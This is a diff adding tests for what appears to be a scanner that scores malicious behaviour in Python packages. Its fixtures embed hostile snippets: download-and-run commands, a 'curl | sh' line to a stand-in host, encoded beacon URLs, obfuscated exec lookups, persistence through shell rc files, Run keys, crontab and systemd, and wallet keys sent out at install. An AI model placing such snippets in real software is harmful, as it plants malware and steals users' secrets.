@@ -78,3 +78,349 @@ def test_sending_to_a_collector_weighs_more_than_naming_one() -> None:
     assert weight("exfiltration-endpoint", {"acme/m.py": sends}) > weight(
         "exfiltration-endpoint", {"acme/m.py": names}
     )
+
+
+def _system(cmd: str) -> dict[str, str]:
+    return {"acme/tool.py": f"import os\ndef f():\n    os.system({cmd!r})\n"}
+
+
+def test_code_flags_count_only_for_interpreters() -> None:
+    inline = weight("process-exec", _system("bash -c 'id'"))
+    assert weight("process-exec", _system("python3 -c 'import os'")) == inline
+    assert weight("process-exec", _system("sed -i -e s/a/b/ pyproject.toml")) < inline
+    assert weight("process-exec", _system("gcc -c ext.c")) < inline
+
+
+def test_a_build_tool_fetching_sources_is_not_a_download() -> None:
+    fetch = weight("process-exec", _system("curl -sO https://x.example.invalid/a"))
+    cargo = "cargo install --git https://git.example.invalid/tools"
+    assert weight("process-exec", _system(cargo)) < fetch
+    chained = cargo + " && curl -s https://x.example.invalid/a | sh"
+    assert weight("process-exec", _system(chained)) == fetch
+
+
+# download-execute: downloads made with command-line tools
+
+
+def _tool_download(download: str, run: str) -> dict[str, str]:
+    """A function that downloads to ``path`` with ``download`` and then does ``run``."""
+    return {
+        "acme/update.py": (
+            "import os, subprocess, urllib.request\n"
+            "def update(url):\n"
+            "    path = os.path.join(os.environ.get('TEMP', '/tmp'), 'upd.exe')\n"
+            f"    {download}\n"
+            f"    {run}\n"
+        )
+    }
+
+
+def test_a_tool_download_started_weighs_like_a_python_download_started() -> None:
+    start = "subprocess.Popen([path])"
+    python = weight(
+        "download-execute", _tool_download("urllib.request.urlretrieve(url, path)", start)
+    )
+    for tool in (
+        "subprocess.run(['curl', '-sL', '-o', path, url])",
+        "os.system(f'wget -O {path} {url}')",
+        "subprocess.call(f'certutil -urlcache -f {url} {path}')",
+        "subprocess.run(['powershell', '-Command', f'iwr {url} -OutFile {path}'])",
+    ):
+        assert weight("download-execute", _tool_download(tool, start)) == python, tool
+
+
+def test_starting_the_file_a_tool_fetched_weighs_more_than_starting_another_program() -> None:
+    curl = "os.system(f'curl -s {url} -o {path}')"
+    linked = weight("download-execute", _tool_download(curl, "os.startfile(path)"))
+    other = weight("download-execute", _tool_download(curl, "os.startfile(os.environ['APP'])"))
+    assert linked > other > 0
+
+
+def test_building_a_tarball_a_tool_fetched_is_not_running_it() -> None:
+    curl = "subprocess.run(['curl', '-sL', '-o', path, url])"
+    started = weight("download-execute", _tool_download(curl, "subprocess.Popen([path])"))
+    for build in (
+        "subprocess.run(['tar', '-xzf', path])",
+        "subprocess.run(['make', '-C', 'libfoo'])",
+        "subprocess.run(['pip', 'install', path])",
+    ):
+        assert weight("download-execute", _tool_download(curl, build)) < started / 4, build
+
+
+def test_a_tool_printing_what_it_fetches_saves_no_file_to_start() -> None:
+    saved = weight(
+        "download-execute",
+        _tool_download("subprocess.run(['curl', '-sO', url])", "subprocess.Popen(['./upd.exe'])"),
+    )
+    printed = weight(
+        "download-execute",
+        _tool_download("subprocess.run(['curl', '-s', url])", "subprocess.Popen(['./upd.exe'])"),
+    )
+    assert printed < saved
+
+
+# encoded-payload: a decoded URL that is requested
+
+
+def _hidden_url(use: str) -> dict[str, str]:
+    """A module keeping an encoded URL, decoding it in a function that then does ``use``."""
+    return {
+        "acme/__init__.py": "",
+        "acme/report.py": (
+            "import base64, binascii, requests, urllib.request, socket\n"
+            "ENDPOINT = 'aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuaW52YWxpZC91cGxvYWQ='\n"
+            "def report(data):\n"
+            "    url = base64.b64decode(ENDPOINT).decode()\n"
+            f"    {use}\n"
+        ),
+    }
+
+
+def test_requesting_a_hidden_url_weighs_clearly_more_than_decoding_it() -> None:
+    decoded = weight("encoded-payload", _hidden_url("print(url)"))
+    assert decoded > 0
+    for use in (
+        "requests.post(url, json=data)",
+        "requests.request('POST', url, json=data)",
+        "urllib.request.urlopen(urllib.request.Request(url, data=data))",
+        "requests.Session().get(url=url + '/v1')",
+    ):
+        assert weight("encoded-payload", _hidden_url(use)) > decoded * 1.3, use
+
+
+def test_sending_data_to_a_plain_address_is_not_requesting_the_hidden_one() -> None:
+    decoded = weight("encoded-payload", _hidden_url("print(url)"))
+    as_body = weight(
+        "encoded-payload", _hidden_url("requests.post('https://api.example.invalid/x', data=url)")
+    )
+    assert as_body == decoded
+
+
+def test_a_hidden_url_requested_through_helpers_counts_as_requested() -> None:
+    helpers = {
+        "acme/__init__.py": "",
+        "acme/report.py": (
+            "import binascii, requests\n"
+            "def _where():\n"
+            "    return binascii.unhexlify("
+            "'68747470733a2f2f73746167652e6578616d706c652e696e76616c69642f61').decode()\n"
+            "def _send(to, body):\n"
+            "    return requests.post(to, data=body)\n"
+            "def report(body):\n"
+            "    return _send(_where(), body)\n"
+        ),
+    }
+    unused = {
+        "acme/__init__.py": "",
+        "acme/report.py": helpers["acme/report.py"].replace("_send(_where(), body)", "_where()"),
+    }
+    assert weight("encoded-payload", helpers) > weight("encoded-payload", unused) * 1.3
+
+
+def test_a_url_spelled_backwards_counts_only_where_it_is_requested() -> None:
+    rev = "nocaeb/dilavni.elpmaxe.egats//:sptth"
+    code = "import requests\ndef beacon():\n    u = {rev!r}\n    {use}\n"
+    requested = {"acme/__init__.py": code.format(rev=rev, use="requests.get(u[::-1])")}
+    printed = {"acme/__init__.py": code.format(rev=rev, use="print(u[::-1])")}
+    assert weight("encoded-payload", requested) > 0
+    assert weight("encoded-payload", printed) == 0
+
+
+# builtins-indirection: names decoded on the spot
+
+
+def _lookup(expr: str) -> dict[str, str]:
+    return {
+        "acme/__init__.py": "",
+        "acme/m.py": (
+            "import base64, builtins, codecs\n"
+            "def run(code):\n"
+            f"    fn = getattr(builtins, {expr})\n"
+            "    return fn(code)\n"
+        ),
+    }
+
+
+def test_a_decoded_name_of_exec_weighs_like_obfuscated_execution() -> None:
+    computed = weight("builtins-indirection", _lookup("'ex' + 'ec'"))
+    assert computed > 0
+    for expr in (
+        "b'\\x85\\xa7\\x85\\x83'.decode('cp1026')",
+        "codecs.decode('riny', 'rot13')",
+        "base64.b64decode('X19pbXBvcnRfXw==').decode()",
+        "bytes([99, 111, 109, 112, 105, 108, 101]).decode()",
+        "bytes.fromhex('6f70656e').decode()",
+        "''.join(chr(c) for c in [101, 120, 101, 99])",
+    ):
+        assert weight("builtins-indirection", _lookup(expr)) > computed * 1.5, expr
+
+
+def test_a_name_decoded_from_unknown_data_weighs_between() -> None:
+    computed = weight("builtins-indirection", _lookup("'ex' + 'ec'"))
+    exec_ = weight("builtins-indirection", _lookup("codecs.decode('rkrp', 'rot13')"))
+    unknown = weight("builtins-indirection", _lookup("codecs.decode(code.split()[0], 'rot13')"))
+    assert computed < unknown < exec_
+
+
+def test_python2_compat_lookups_stay_quiet() -> None:
+    for expr in ("'unicode', str", "b'print'.decode('ascii')", "'long', int"):
+        assert weight("builtins-indirection", _lookup(expr)) == 0, expr
+    compat = "try:\n    ask = __builtins__['raw_input']\nexcept KeyError:\n    ask = input\n"
+    table = {"acme/__init__.py": compat}
+    assert weight("builtins-indirection", table) == 0
+    # a decoded name that is no code-running builtin weighs as any computed name
+    harmless = weight("builtins-indirection", _lookup("codecs.decode('cevag', 'rot13')"))
+    assert harmless <= weight("builtins-indirection", _lookup("'ex' + 'ec'"))
+
+
+# -- persistence ----------------------------------------------------------------------------------
+
+
+def _at_import(body: str) -> dict[str, str]:
+    return {"acme/__init__.py": body}
+
+
+def test_appending_to_a_shell_rc_weighs_more_than_naming_it() -> None:
+    names = "import os\nRC = os.path.expanduser('~/.bashrc')\n"
+    appends = (
+        "import os\nRC = os.path.expanduser('~/.bashrc')\n"
+        "with open(RC, 'a') as fh:\n    fh.write('\\n(python3 ~/.x.py &)\\n')\n"
+    )
+    via_path = (
+        "from pathlib import Path\n"
+        "(Path.home() / '.profile').open('a').write('\\n(python3 ~/.x.py &)\\n')\n"
+    )
+    mention = weight("persistence", _at_import(names))
+    assert 0 < mention < 0.2
+    assert weight("persistence", _at_import(appends)) > 0.4 > mention
+    assert weight("persistence", _at_import(via_path)) > 0.4
+
+
+def test_setting_a_run_key_value_weighs_more_than_naming_the_key() -> None:
+    names = "KEY = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
+    sets = (
+        "import winreg\nKEY = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
+        "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, KEY, 0, winreg.KEY_SET_VALUE)\n"
+        "winreg.SetValueEx(k, 'u', 0, winreg.REG_SZ, 'c:/x.exe')\n"
+    )
+    reads = (
+        "import winreg\nKEY = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
+        "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, KEY)\n"
+        "print(winreg.QueryValueEx(k, 'u'))\n"
+    )
+    mention = weight("persistence", _at_import(names))
+    assert weight("persistence", _at_import(sets)) > mention
+    assert weight("persistence", _at_import(reads)) == mention
+
+
+def test_copying_into_the_startup_folder_weighs_more_than_naming_it() -> None:
+    folder = "r'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup'"
+    names = f"STARTUP = {folder}\n"
+    copies = f"import shutil, sys\nSTARTUP = {folder}\nshutil.copy(sys.argv[0], STARTUP)\n"
+    assert weight("persistence", _at_import(copies)) > weight("persistence", _at_import(names))
+
+
+def test_installing_a_crontab_weighs_more_than_listing_it() -> None:
+    lists = "import os\nos.system('crontab -l > /tmp/cron.bak')\n"
+    installs = "import os\nos.system('(crontab -l; echo \"@reboot /opt/a\") | crontab -')\n"
+    assert weight("persistence", _at_import(installs)) > weight("persistence", _at_import(lists))
+
+
+def test_enabling_a_systemd_unit_weighs_more_than_naming_its_folder() -> None:
+    names = "UNITS = '/etc/systemd/system/'\n"
+    enables = (
+        "import subprocess\nUNITS = '/etc/systemd/system/'\n"
+        "with open(UNITS + 'agent.service', 'w') as fh:\n    fh.write('[Service]')\n"
+        "subprocess.run(['systemctl', 'enable', 'agent.service'])\n"
+    )
+    assert weight("persistence", _at_import(enables)) > weight("persistence", _at_import(names))
+
+
+def test_a_printed_rc_command_weighs_less_than_running_it() -> None:
+    cmd = "echo 'eval \"$(demo completion)\"' >> ~/.bashrc"
+    prints = f"def hint():\n    print({cmd!r})\n"
+    runs = f"import os\ndef hint():\n    os.system({cmd!r})\n"
+    assert weight("persistence", {"acme/cli.py": prints}) < weight(
+        "persistence", {"acme/cli.py": runs}
+    )
+
+
+def test_a_completion_line_written_when_called_weighs_less_than_at_install() -> None:
+    body = (
+        "from pathlib import Path\n"
+        "def install_completion():\n"
+        "    rc = Path.home() / '.bashrc'\n"
+        "    with rc.open('a') as fh:\n"
+        "        fh.write('eval \"$(_DEMO_COMPLETE=bash_source demo)\"\\n')\n"
+    )
+    other = body.replace("_DEMO_COMPLETE=bash_source demo", "curl -s x.example.invalid | sh")
+    when_called = weight("persistence", {"acme/cli.py": body})
+    assert 0 < when_called < weight("persistence", {"acme/cli.py": other})
+    setup = body + "install_completion()\nfrom setuptools import setup\nsetup(name='demo')\n"
+    assert weight("persistence", {"setup.py": setup}) > when_called
+
+
+def test_a_helper_returning_the_path_it_saved_links_like_the_path_itself() -> None:
+    inline = weight(
+        "download-execute",
+        _tool_download("subprocess.run(['curl', '-so', path, url])", "subprocess.Popen([path])"),
+    )
+    helper = (
+        "import os, subprocess\n"
+        "def fetch(url):\n"
+        "    path = os.path.join(os.environ.get('TEMP', '/tmp'), 'upd.exe')\n"
+        "    subprocess.run(['curl', '-so', path, url])\n"
+        "    return path\n"
+        "def update(url):\n"
+        "    subprocess.Popen([fetch(url)])\n"
+    )
+    assert weight("download-execute", {"acme/update.py": helper}) == inline > 0
+
+
+# fingerprint-exfil: wallet secrets
+
+
+def _wallet_send(payload: str, before: str = "") -> str:
+    return (
+        "import requests\nfrom eth_account import Account\n\n"
+        "def backup(private_key, tx):\n"
+        f"{before}"
+        f"    requests.post('https://x.example.invalid/b', json={payload})\n"
+    )
+
+
+def test_a_wallet_secret_sent_at_install_weighs_more_than_one_sent_when_called() -> None:
+    body = "import os, requests\nwords = os.environ.get('MNEMONIC')\n"
+    send = "requests.post('https://x.example.invalid/w', data={'w': words})\n"
+    called = "def sync():\n    " + body.replace("\n", "\n    ").rstrip() + "\n    " + send
+    setup = body + send + "from setuptools import setup\nsetup(name='demo')\n"
+    assert (
+        weight("fingerprint-exfil", {"setup.py": setup})
+        > weight("fingerprint-exfil", {"acme/sync.py": called})
+        > 0
+    )
+
+
+def test_a_wallet_key_counts_only_when_it_is_sent_not_what_it_signs_or_derives() -> None:
+    key = weight("fingerprint-exfil", {"acme/w.py": _wallet_send("{'k': private_key}")})
+    signed = _wallet_send(
+        "{'tx': signed.raw_transaction.hex()}",
+        "    signed = Account.from_key(private_key).sign_transaction(tx)\n",
+    )
+    address = _wallet_send(
+        "{'params': [acct.address]}", "    acct = Account.from_key(private_key)\n"
+    )
+    exported = _wallet_send("{'k': acct.key.hex()}", "    acct = Account.from_key(private_key)\n")
+    assert key > 0
+    assert weight("fingerprint-exfil", {"acme/w.py": exported}) == key
+    assert weight("fingerprint-exfil", {"acme/w.py": signed}) == 0
+    assert weight("fingerprint-exfil", {"acme/w.py": address}) == 0
+
+
+def test_a_start_up_file_of_a_temporary_home_is_no_install() -> None:
+    temp = (
+        "import os, tempfile\nd = tempfile.mkdtemp()\n"
+        "with open(os.path.join(d, '.zshrc'), 'w') as fh:\n    fh.write('PROMPT=x')\n"
+    )
+    names = "import os, tempfile\nd = tempfile.mkdtemp()\nRC = os.path.join(d, '.zshrc')\n"
+    assert weight("persistence", _at_import(temp)) == weight("persistence", _at_import(names))
